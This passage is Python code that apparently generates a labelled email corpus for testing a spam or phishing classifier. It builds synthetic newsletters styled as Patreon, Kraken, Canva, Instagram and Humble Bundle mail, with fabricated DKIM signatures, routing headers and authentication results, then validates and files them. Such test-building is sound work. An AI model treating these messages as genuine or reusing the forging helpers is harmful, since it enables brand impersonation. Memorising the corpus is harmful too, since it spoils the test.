    plain = ("The Ridgemont Weekly - Week of September 29\n\n" + "".join(f"{t}\n{d}\n{trk(i)}\n\n" for i, (t, d) in enumerate(items))
             + "Ridgemont University, Division of Student Life\nUnsubscribe: "
             f"https://ridgemont.cmail20.com/t/d-u-{rnd(seed + 'unsub', 7).lower()}-{rnd(seed + 'u', 8).lower()}/\n")
    headers = [
        dkim("cmail20.com", "cs2013", seed + "cm", when, h="From:To:Subject:Date:Message-ID:List-Unsubscribe:MIME-Version:Content-Type"),
        dkim("ridgemont.edu", "cm", seed, when, h="From:To:Subject:Date:Message-ID:List-Unsubscribe:MIME-Version:Content-Type"),
        f"Received: from [127.0.0.1] by {a.helo} (MailEnable) with ESMTP; {rfc(plus(when, -2))}",
        "From: Ridgemont Student Life <studentlife@ridgemont.edu>",
        f"To: \"Okafor, David\" <{rcpt}>",
        "Subject: The Ridgemont Weekly: Involvement Fair, flu shots and homecoming",
        f"Date: {rfc(when)}",
        f"Message-ID: <{hx(seed + 'mid', 32).upper()}@cmail20.com>",
        "X-Complaints-To: abuse@cmail20.com",
        f"X-Feedback-ID: {num(seed + 'fb', 10**6, 10**7)}:{num(seed + 'fb2', 10**6, 10**7)}:cm",
        f"List-Unsubscribe: <mailto:unsubscribe-{hx(seed + 'lu', 16)}@cmail20.com?subject=unsubscribe>,\n"
        f" <https://ridgemont.cmail20.com/t/d-u-{rnd(seed + 'unsub', 7).lower()}-{rnd(seed + 'u', 8).lower()}/>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "X-EmailType-Id: 47201",
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"_=aspNetEmail={hx(seed + 'bnd', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 3), a), headers), body)


@sample("bulk", "bulk", "patreon-new-post-notification",
        "Genuine Patreon 'new post from a creator you support' notification from bingo@patreon.com via SendGrid "
        "(patreon.com passes), with tracked patreon.com links and unsubscribe.")
def patreon_post():
    seed = "b31-b-patreon"
    when = utc("2025-12-12 20:15:33")
    rcpt = "inkandembers.art@gmail.com"
    ip, helo, sg = sendgrid_hops(seed, when, "o22.email.patreon.com")
    mf = f"bounces+6401887-1b3c-{rcpt.replace('@', '=')}@email.patreon.com"
    a = Auth(ip, helo, mf, "pass", [("patreon.com", "s1", "pass")], "pass", "reject", "patreon.com", seed)
    link = sg_link(seed, "email.patreon.com")
    unsub_url = f"https://www.patreon.com/settings/email?unsubscribe_token={rnd(seed + 'un', 40)}"
    html = html_page(f"""<body style="margin:0;background:#ffffff;">
<div style="max-width:560px;margin:0 auto;padding:28px 20px;font-family:'Aktiv Grotesk',Helvetica,Arial,sans-serif;color:#000000;">
<img src="https://c5.patreon.com/external/logo/downloads_wordmark_black.png" width="100" alt="Patreon" />
<p style="font-size:14px;color:#706c64;margin-top:24px;">New post from <b style="color:#000;">Lofi Forest Studio</b></p>
<h2 style="font-size:22px;margin:6px 0 12px 0;">December sample pack is live (42 loops + stems)</h2>
<p style="font-size:15px;line-height:23px;">Hey everyone! This month's pack is all about rainy-window keys and tape-saturated drums. Download links are in the post for Tier 2 and up. Thank you for keeping the forest growing &#127794;</p>
<p style="margin:24px 0;"><a href="{link}" style="background:#000000;color:#ffffff;padding:12px 22px;border-radius:24px;text-decoration:none;font-weight:bold;font-size:14px;">View post</a></p>
<p style="font-size:12px;color:#706c64;">You're receiving this because you're a member of Lofi Forest Studio. <a href="{unsub_url}" style="color:#706c64;">Manage email settings</a><br />Patreon, Inc. &bull; 600 Townsend Street, Suite 500, San Francisco, CA 94103</p>
</div>
<img src="https://email.patreon.com/wf/open?upn=u001.{rnd(seed + 'open', 110, B62 + '-')}" alt="" width="1" height="1" border="0" /></body>""", "Patreon")
    plain = ("New post from Lofi Forest Studio\n\nDecember sample pack is live (42 loops + stems)\n\nHey everyone! This month's "
             f"pack is all about rainy-window keys and tape-saturated drums.\n\nView post: {link}\n\nManage email settings: "
             f"{unsub_url}\n")
    headers = [
        *sg,
        dkim("patreon.com", "s1", seed, when, h="content-type:from:mime-version:subject:list-unsubscribe:to:cc:content-type:from:subject:to"),
        f"Date: {rfc(when)}",
        "From: Patreon <bingo@patreon.com>",
        "Mime-Version: 1.0",
        f"Message-ID: {sg_msgid(seed)}",
        "Subject: Lofi Forest Studio just shared \"December sample pack is live (42 loops + stems)\"",
        *unsub(unsub_url),
        f"X-SG-EID:\n =?us-ascii?Q?{rnd(seed + 'eid', 60, B62)}?=",
        f"To: {rcpt}",
        "X-Entity-ID: u001.2g0rSKxE3q7mPnd0l6VY+A==",
    ]
    body = alt(seed, plain, html, hx(seed + "bd", 64))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("bulk", "bulk", "kraken-weekly-newsletter",
        "Genuine Kraken exchange market newsletter sent via SparkPost from email.kraken.com (DKIM/DMARC pass), with "
        "tracked links to kraken.com and List-Unsubscribe.")
def kraken_newsletter():
    seed = "b31-b-kraken"
    when = utc("2025-03-14 15:30:09")
    rcpt = "kevin.osei@proton.me"
    dom = "email.kraken.com"
    ip = f"192.174.{num(seed + 'ip', 80, 95)}.{num(seed + 'ip2', 10, 250)}"
    mf = f"msprvs1={rnd(seed + 'pv', 13)}=bounces-{num(seed + 'bn', 100000, 999999)}@bounces.{dom}"
    a = Auth(ip, f"mta-{num(seed + 'h', 100, 250)}a.sparkpostmail.com", mf, "pass", [(dom, "scph0224", "pass")], "pass",
             "reject", dom, seed)
    def trk(n):
        return f"https://{dom}/f/a/{rnd(seed + 'f' + str(n), 22, B62 + '-_')}~~/AAAHahA~/{rnd(seed + 'g' + str(n), 80, B62 + '-_')}"
    html = html_page(f"""<body style="margin:0;background:#f7f7f9;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:24px 0;">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:'Kraken Plex',Helvetica,Arial,sans-serif;color:#101114;">
<tr><td style="padding:24px 32px;"><a href="{trk(1)}"><img src="https://assets.kraken.com/marketing/email/kraken-logo-purple.png" width="110" alt="Kraken" border="0" /></a></td></tr>
<tr><td style="padding:0 32px;font-size:24px;font-weight:bold;">This week in crypto</td></tr>
<tr><td style="padding:14px 32px;font-size:15px;line-height:23px;color:#3d3d45;">Bitcoin held above $80K despite macro jitters, Ethereum's Pectra upgrade got a mainnet date and stablecoin bills moved forward in Congress. Our Intelligence team breaks it down.</td></tr>
<tr><td style="padding:8px 32px;"><a href="{trk(2)}" style="color:#7132f5;font-weight:bold;">Read the weekly recap &rarr;</a></td></tr>
<tr><td style="padding:8px 32px 24px 32px;"><a href="{trk(3)}" style="color:#7132f5;font-weight:bold;">Learn: what is staking? &rarr;</a></td></tr>
<tr><td style="padding:20px 32px;font-size:11px;color:#8b8b98;line-height:16px;border-top:1px solid #eeeeee;">Crypto is volatile; this is not investment advice. Payward, Inc. dba Kraken, 106 E. Lincolnway Suite 300-B, Cheyenne, WY 82001.<br /><a href="{trk(4)}" style="color:#8b8b98;">Unsubscribe</a> &middot; <a href="{trk(5)}" style="color:#8b8b98;">Email preferences</a></td></tr>
</table></td></tr></table>
<img src="https://{dom}/o/{rnd(seed + 'open', 60, B62 + '-_')}" width="1" height="1" alt="" /></body>""", "Kraken")
    plain = ("This week in crypto\n\nBitcoin held above $80K despite macro jitters, Ethereum's Pectra upgrade got a mainnet "
             f"date and stablecoin bills moved forward in Congress.\n\nRead the weekly recap: {trk(2)}\n\nUnsubscribe: {trk(4)}\n")
    headers = [
        dkim(dom, "scph0224", seed, when, h="From:To:Subject:Date:Message-ID:List-Unsubscribe:List-Unsubscribe-Post:MIME-Version:Content-Type"),
        f"Received: from [10.90.{num(seed + 'r', 10, 99)}.{num(seed + 'r2', 1, 250)}] ([10.90.{num(seed + 'r', 10, 99)}.{num(seed + 'r2', 1, 250)}:{num(seed + 'port', 30000, 60000)}])\n"
        f"\tby {a.helo} (envelope-from <{mf}>)\n\t(ecelerity 4.5.0.73491 r(msys-ecelerity:tags/4.5.0.1)) with HTTP\n"
        f"\tid {hx(seed + 'ec', 2).upper()}/{hx(seed + 'ec2', 2).upper()}-{num(seed + 'ec3', 10000, 99999)}-{hx(seed + 'ec4', 8).upper()}; {rfc(plus(when, -1))}",
        f"Message-ID: <{hx(seed + 'mid', 8).upper()}.{hx(seed + 'mid2', 2).upper()}.{num(seed + 'mid3', 10000, 99999)}.{hx(seed + 'mid4', 8).upper()}@{a.helo}>",
        f"Date: {rfc(when)}",
        "From: Kraken <newsletter@email.kraken.com>",
        f"To: {rcpt}",
        "Subject: This week in crypto: BTC holds $80K, Pectra gets a date",
        *unsub(trk(4)),
        "MIME-Version: 1.0",
        f"X-MSFBL: {rnd(seed + 'fbl', 80, B64)}",
    ]
    body = Multi("alternative", f"_----{rnd(seed + 'bnd', 25)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("bulk", "bulk", "canva-education-newsletter",
        "Genuine Canva marketing newsletter for students (Canva Education features) from engage.canva.com via SendGrid, "
        "DKIM/DMARC pass, tracked links and one-click unsubscribe.")
def canva_newsletter():
    seed = "b31-b-canva"
    when = utc("2025-08-20 14:02:51")
    rcpt = "brianna.cole.fit@icloud.com"
    ip, helo, sg = sendgrid_hops(seed, when, "o3.engage.canva.com")
    mf = f"bounces+9102384-77e1-{rcpt.replace('@', '=')}@engage.canva.com"
    a = Auth(ip, helo, mf, "pass", [("engage.canva.com", "s1", "pass")], "pass", "reject", "engage.canva.com", seed)
    link = sg_link(seed, "click.engage.canva.com")
    unsub_url = f"https://www.canva.com/settings/email-preferences?token={rnd(seed + 'un', 40)}"
    html = html_page(f"""<body style="margin:0;background:#f3f0ff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:24px 0;">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border-radius:12px;font-family:'Canva Sans',Helvetica,Arial,sans-serif;color:#0e1318;">
<tr><td style="padding:28px 36px 0 36px;"><img src="https://static.canva.com/email/canva-logo-2023.png" width="82" alt="Canva" /></td></tr>
<tr><td style="padding:20px 36px 6px 36px;font-size:28px;font-weight:bold;">Back to school, but make it beautiful</td></tr>
<tr><td style="padding:8px 36px;font-size:16px;line-height:24px;color:#3d4450;">New presentation templates, Magic Write for essay outlines and Canva Docs for group projects &mdash; all in one place for the new semester.</td></tr>
<tr><td style="padding:20px 36px 30px 36px;"><a href="{link}" style="background:#8b3dff;color:#ffffff;padding:13px 26px;border-radius:8px;text-decoration:none;font-weight:bold;">Explore templates</a></td></tr>
<tr><td style="padding:18px 36px;font-size:11px;color:#6b7280;border-top:1px solid #eeeeee;">You're receiving this email because you signed up for Canva. <a href="{unsub_url}" style="color:#6b7280;">Unsubscribe</a><br />Canva&reg;, 110 Kippax St, Surry Hills NSW 2010, Australia</td></tr>
</table></td></tr></table>
<img src="https://click.engage.canva.com/wf/open?upn=u001.{rnd(seed + 'open', 110, B62 + '-')}" alt="" width="1" height="1" border="0" /></body>""", "Canva")
    plain = ("Back to school, but make it beautiful\n\nNew presentation templates, Magic Write for essay outlines and Canva Docs "
             f"for group projects.\n\nExplore templates: {link}\n\nUnsubscribe: {unsub_url}\n")
    headers = [
        *sg,
        dkim("engage.canva.com", "s1", seed, when, h="content-type:from:mime-version:subject:list-unsubscribe:to:cc:content-type:from:subject:to"),
        f"Date: {rfc(when)}",
        "From: Canva <marketing@engage.canva.com>",
        "Mime-Version: 1.0",
        f"Message-ID: {sg_msgid(seed)}",
        f"Subject: {enc('Your semester, sorted ✏️')}",
        *unsub(unsub_url),
        f"X-SG-EID:\n =?us-ascii?Q?{rnd(seed + 'eid', 60, B62)}?=",
        f"To: {rcpt}",
        "X-Entity-ID: u001.pQ7aB3nT0x5LmW8kY2cR1g==",
    ]
    body = alt(seed, plain, html, hx(seed + "bd", 64))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("bulk", "bulk", "instagram-notifications-digest-pt",
        "Genuine Portuguese Instagram notification digest ('você tem 7 notificações') from no-reply@mail.instagram.com "
        "sent by Meta's mail servers (DKIM/DMARC pass), links to instagram.com and unsubscribe.")
def instagram_digest():
    seed = "b31-b-insta"
    when = utc("2025-02-15 23:40:07")
    rcpt = "gabriel.rocha.music@gmail.com"
    ip = f"69.171.232.{num(seed + 'ip', 128, 150)}"
    mf = f"notification+z{rnd(seed + 'rp', 12).lower()}@mail.instagram.com"
    a = Auth(ip, f"69-171-232-{ip.split('.')[-1]}.mail-mail.facebook.com", mf, "pass",
             [("mail.instagram.com", "s1024-2013-q3", "pass")], "pass", "reject", "mail.instagram.com", seed)
    unsub_url = f"https://www.instagram.com/emails/unsubscribe/?uid={rnd(seed + 'uid', 24)}&type=notifications_digest"
    html = html_page(f"""<body style="margin:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="430" cellpadding="0" cellspacing="0" border="0" style="font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;color:#262626;">
<tr><td style="padding:24px 0 14px 0;"><img src="https://static.cdninstagram.com/rsrc.php/v3/yY/r/instagram_email_logo.png" width="103" alt="Instagram" /></td></tr>
<tr><td style="font-size:17px;padding-bottom:14px;">Ol&aacute;, gabriel.rocha.music. Voc&ecirc; tem <b>7 notifica&ccedil;&otilde;es</b> novas.</td></tr>
<tr><td style="font-size:14px;line-height:21px;color:#262626;">ana.beats e outras 4 pessoas curtiram seu reel.<br />lucas_sax come&ccedil;ou a seguir voc&ecirc;.<br />studio.norte comentou: &ldquo;que som! &#128293;&rdquo;</td></tr>
<tr><td style="padding:22px 0;"><a href="https://www.instagram.com/accounts/activity/?utm_source=ig_email_digest" style="background:#0095f6;color:#ffffff;padding:9px 18px;border-radius:8px;text-decoration:none;font-weight:bold;font-size:14px;">Ver notifica&ccedil;&otilde;es</a></td></tr>
<tr><td style="font-size:11px;color:#8e8e8e;padding:20px 0;border-top:1px solid #efefef;">&copy; Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025<br />Esta mensagem foi enviada para {rcpt}. <a href="{unsub_url}" style="color:#8e8e8e;">Cancelar inscri&ccedil;&atilde;o</a></td></tr>
</table></td></tr></table></body>""", "Instagram")
    plain = ("Olá, gabriel.rocha.music. Você tem 7 notificações novas.\n\nana.beats e outras 4 pessoas curtiram seu reel.\n"
             "lucas_sax começou a seguir você.\nstudio.norte comentou: \"que som!\"\n\nVer notificações: "
             f"https://www.instagram.com/accounts/activity/?utm_source=ig_email_digest\n\nCancelar inscrição: {unsub_url}\n")
    headers = [
        f"Received: from facebook.com (TH5oBXKKPUE8VRNJNz+hx2lhBBHoTqU6ocqPpyXNPXOe7a8w8SUfv0bLf8YJhwGn {num(seed + 'r', 10, 99)}.{num(seed + 'r2', 10, 99)}.{num(seed + 'r3', 10, 99)}.{num(seed + 'r4', 10, 99)})\n"
        f" by {a.helo} with Facebook Mail with ESMTP id {hx(seed + 'q', 16)}; {rfc(plus(when, -1), '-0800')}",
        dkim("mail.instagram.com", "s1024-2013-q3", seed, when, h="Date:To:Subject:Message-ID:From:List-Unsubscribe:MIME-Version:Content-Type"),
        f"Date: {rfc(when, '-0800')}",
        f"To: {rcpt}",
        f"Subject: {enc('gabriel.rocha.music, você tem 7 notificações')}",
        f"Message-ID: <{hx(seed + 'mid', 32)}@mail.instagram.com>",
        "From: Instagram <no-reply@mail.instagram.com>",
        f"List-Unsubscribe: <{unsub_url}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "X-Priority: 3",
        "X-Mailer: ZuckMail [version 1.00]",
        "Errors-To: notification+z" + rnd(seed + 'rp', 12).lower() + "@mail.instagram.com",
        "X-Facebook-Notify: ig_notifications_digest; mailid=" + hx(seed + 'mailid', 28),
        "MIME-Version: 1.0",
    ]
    body = Multi("alternative", f"b1_{hx(seed + 'b', 32)}", [text(plain), text(html, "html")])
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


@sample("bulk", "bulk", "humble-bundle-newsletter",
        "Genuine Humble Bundle promotional newsletter (new game bundle) from contact@mailer.humblebundle.com via "
        "SendGrid, DKIM/DMARC pass, tracked links to humblebundle.com and unsubscribe.")
def humble_newsletter():
    seed = "b31-b-humble"
    when = utc("2024-10-08 18:05:44")
    rcpt = "ryan.ashford@icloud.com"
    ip, helo, sg = sendgrid_hops(seed, when, "o5.mailer.humblebundle.com")
    mf = f"bounces+2093311-55c0-{rcpt.replace('@', '=')}@mailer.humblebundle.com"
    a = Auth(ip, helo, mf, "pass", [("mailer.humblebundle.com", "s1", "pass")], "pass", "none", "mailer.humblebundle.com", seed)
    link = sg_link(seed, "links.mailer.humblebundle.com")
    unsub_url = f"https://www.humblebundle.com/user/unsubscribe?token={rnd(seed + 'un', 40)}"
    html = html_page(f"""<body style="margin:0;background:#494f5c;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#2e3039;font-family:Arial,Helvetica,sans-serif;color:#ffffff;">
<tr><td style="padding:20px 30px;"><img src="https://hb.imgix.net/static/email/humble-logo-white.png" width="150" alt="Humble Bundle" /></td></tr>
<tr><td style="padding:0 30px;font-size:26px;font-weight:bold;">Spooky Season Bundle</td></tr>
<tr><td style="padding:12px 30px;font-size:15px;line-height:22px;color:#d0d0d8;">Get 8 horror games for $12, including Signalis and Dredge, and support the Trevor Project and Direct Relief.</td></tr>
<tr><td style="padding:16px 30px 30px 30px;"><a href="{link}" style="background:#cb272c;color:#ffffff;padding:12px 26px;border-radius:3px;text-decoration:none;font-weight:bold;">Get the bundle</a></td></tr>
<tr><td style="padding:20px 30px;font-size:11px;color:#a1a7b5;border-top:1px solid #494f5c;">Humble Bundle, Inc., 201 Post Street, 11th Floor, San Francisco, CA 94108<br /><a href="{unsub_url}" style="color:#a1a7b5;">Unsubscribe</a> from promotional emails.</td></tr>
</table></td></tr></table>
<img src="https://links.mailer.humblebundle.com/wf/open?upn=u001.{rnd(seed + 'open', 110, B62 + '-')}" alt="" width="1" height="1" border="0" /></body>""", "Humble Bundle")
    plain = ("Spooky Season Bundle\n\nGet 8 horror games for $12, including Signalis and Dredge, and support charity.\n\n"
             f"Get the bundle: {link}\n\nUnsubscribe: {unsub_url}\n")
    headers = [
        *sg,
        dkim("mailer.humblebundle.com", "s1", seed, when, h="content-type:from:mime-version:subject:list-unsubscribe:to:cc:content-type:from:subject:to"),
        f"Date: {rfc(when)}",
        "From: Humble Bundle <contact@mailer.humblebundle.com>",
        "Mime-Version: 1.0",
        f"Message-ID: {sg_msgid(seed)}",
        "Subject: 8 horror games for $12: Signalis, Dredge and more",
        *unsub(unsub_url),
        f"X-SG-EID:\n =?us-ascii?Q?{rnd(seed + 'eid', 60, B62)}?=",
        f"To: {rcpt}",
        "X-Entity-ID: u001.Vb9wT4pq0N2mX7cL3kR8eA==",
    ]
    body = alt(seed, plain, html, hx(seed + "bd", 64))
    return message(hdr(deliver(rcpt, plus(when, 2), a), headers), body)


# ============================================================================================
# main
# ============================================================================================

def check(raw: bytes, name: str) -> None:
    """Parse with the strict modern policy: no defects anywhere, every leaf decodes, no long lines."""
    for number, line in enumerate(raw.split(b"\n"), start=1):
        assert len(line) < 990, f"{name}: line {number} is {len(line)} bytes"
    msg = email.parser.BytesParser(policy=email.policy.default).parsebytes(raw)
    for part in msg.walk():
        assert not part.defects, f"{name}: defects {part.defects} in {part.get_content_type()}"
        for key, value in part.items():
            defects = getattr(value, "defects", ())
            assert not defects, f"{name}: header {key} defects {defects}"
        if not part.is_multipart():
            content = part.get_content()
            assert content is not None, f"{name}: empty leaf"
            if part.get_content_maintype() == "text":
                part.get_payload(decode=True).decode(part.get_content_charset() or "utf-8")
            assert not part.defects, f"{name}: decode defects {part.defects}"
    for key in ("From", "To", "Subject", "Date", "Message-ID", "Authentication-Results", "Received"):
        assert msg[key] is not None or key == "To", f"{name}: no {key}"


# file stem -> category folder the maintainer wants it written to instead (filled after the first scan)
# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind):
# transactional notices from brands' bulk senders are bulk mail.
REFILED: dict[str, str] = {
    "b31-legit-steam-purchase-receipt": "bulk",
    "b31-legit-discord-verify-login-location": "bulk",
    "b31-legit-vinted-fr-article-vendu": "bulk",
    "b31-legit-etsy-you-made-a-sale": "bulk",
    "b31-legit-apple-icloud-plus-receipt": "bulk",
    "b31-legit-coinbase-new-device-confirmation": "bulk",
    "b31-legit-youtube-copyright-claim-genuine": "bulk",
    "b31-legit-microsoft-account-security-code": "bulk",
    "b31-legit-clase-so2-google-groups-es": "bulk",
    "b31-legit-spotify-recibo-premium-pt": "bulk",
    "b31-legit-docusign-lease-renewal-genuine": "bulk",
}


def main() -> None:
    for old in sorted(MAIL.glob("*/b31-*.eml")):
        old.unlink()
    manifest = []
    counts: dict[str, int] = {}
    seen = set()
    attacks = legit = 0
    for cat, kind, slug, description, fn in MESSAGES:
        stem = f"b31-{kind}-{slug}"
        assert stem not in seen, stem
        seen.add(stem)
        assert (kind == "phish") == (cat in ("phishing", "malware")), stem
        assert kind != "legit" or cat == "clean", stem
        assert kind != "bulk" or cat == "bulk", stem
        raw = fn()
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        manifest.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {description}")
        counts[folder] = counts.get(folder, 0) + 1
        if kind == "phish":
            attacks += 1
        else:
            legit += 1
    assert attacks == 50 and legit == 25, (attacks, legit)
    MANIFEST.write_text("\n".join(manifest) + "\n", encoding="utf-8")
    print(f"wrote {len(manifest)} messages: {attacks} attacks, {legit} legitimate")
    for folder in sorted(counts):
        print(f"  {folder}: {counts[folder]}")


if __name__ == "__main__":
    main()
